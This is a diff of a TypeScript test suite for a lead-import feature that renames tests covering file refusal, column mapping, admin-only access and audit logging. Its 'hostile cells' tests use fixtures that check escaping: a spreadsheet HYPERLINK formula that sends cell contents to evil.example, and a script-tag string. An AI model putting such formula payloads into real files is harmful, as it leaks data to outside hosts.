@@ -71,7 +71,7 @@ describe('a file', () => {
       'more than 100 times larger',
     ],
     ['a header and no rows', (text: string) => Buffer.from(text.split('\n')[0] ?? ''), 'a header and no rows'],
-  ])('with %s is refused by its dry run, and leaves nothing behind', async (_, make, message) => {
+  ])('with %s is refused by its dry run and leaves nothing behind', async (_, make, message) => {
     const before = await files.fingerprint()
     const checked = await files.bring(make(leadFile(files, [ROW, { address: '14 Main St' }])))
 
@@ -103,7 +103,7 @@ describe('a file', () => {
     expect((await files.check(importId, opened.body.mapping)).preview.newLeads).toBe(40_000)
   })
 
-  test('is refused in parts that are too large', async () => {
+  test('is refused if its parts are too large', async () => {
     const importId = await files.announce(10 * 2 ** 20)
     const tooLarge = await files.sendPart(importId, 0, Buffer.alloc(10 * 2 ** 20, 'a,b,c\n'))
 
@@ -128,7 +128,7 @@ describe('a mapping', () => {
     })
   })
 
-  test('is saved for its source, for the columns that exist', async () => {
+  test('is remembered for its source, if the columns exist', async () => {
     const file = leadFile(files, [{ address: '1 Remembered St' }]).replace('Address,', 'Where it is,')
     const importId = await files.send(file, 'Remembered Records')
     const first = await files.open(importId)
@@ -143,7 +143,7 @@ describe('a mapping', () => {
     expect((await files.admin.call('GET', '/api/admin/lead-sources')).body).toContain('Remembered Records')
   })
 
-  test('picks up a column that the source’s files never had, and keeps leaving out what was left out', async () => {
+  test('adds a column that is new in the source’s files, and still leaves out what was left out', async () => {
     const text = leadFile(files, [{ address: '1 Grown St' }])
       .replaceAll('\n', ',x\n')
       .replace('Phone,x', 'Phone,Email')
@@ -174,7 +174,7 @@ describe('a mapping', () => {
 })
 
 describe('hostile cells', () => {
-  test('appear in a report that no spreadsheet evaluates, and nowhere else', async () => {
+  test('appear escaped in the report of refused rows', async () => {
     const formula = '=HYPERLINK(""http://evil.example/?""&A1,""x"")'
     const checked = await files.bring(
       `${leadFile(files, [{ address: '1 Hostile St' }])}"${formula}",Austin,78701,48453,vacant,2099-01-01,@evil,\n+1,2\n`,
@@ -190,7 +190,7 @@ describe('hostile cells', () => {
     expect(report.headers['content-disposition']).toMatch(/^attachment; filename="refused-rows-lim_\w+\.csv"$/)
   })
 
-  test('are kept and shown as they are if they are harmless', async () => {
+  test('are kept and shown unchanged if they are harmless', async () => {
     const owner = '<script>alert(1)</script> \\N {a,b} "x"'
     const checked = await files.bring(leadFile(files, [{ address: '2 Hostile St', owner }]), {
       source: 'O’Hare, "Best" \\ Records',
@@ -209,8 +209,8 @@ describe('hostile cells', () => {
   })
 })
 
-describe('anyone but an administrator', () => {
-  test('gets nothing of imports', async () => {
+describe('access', () => {
+  test('only administrators can see or change imports', async () => {
     const { id, mapping } = await files.bring(leadFile(files, [{ address: '1 Secret St' }]))
     const rep = await aRep(store)
     for (const [client, status] of [
@@ -242,7 +242,7 @@ describe('anyone but an administrator', () => {
     expect((await files.read(id)).state).toBe('ready')
   })
 
-  test('cannot look at rows unseen: each look of an administrator is recorded', async () => {
+  test('each look of an administrator at rows is logged', async () => {
     const checked = await files.bring(leadFile(files, [{ address: '1 Watched St' }]), { source: 'Watched' })
     await files.admin.call('POST', `/api/admin/lead-imports/${checked.id}/preview`)
     await files.admin.call('GET', `/api/admin/lead-imports/${checked.id}/refused.csv`)
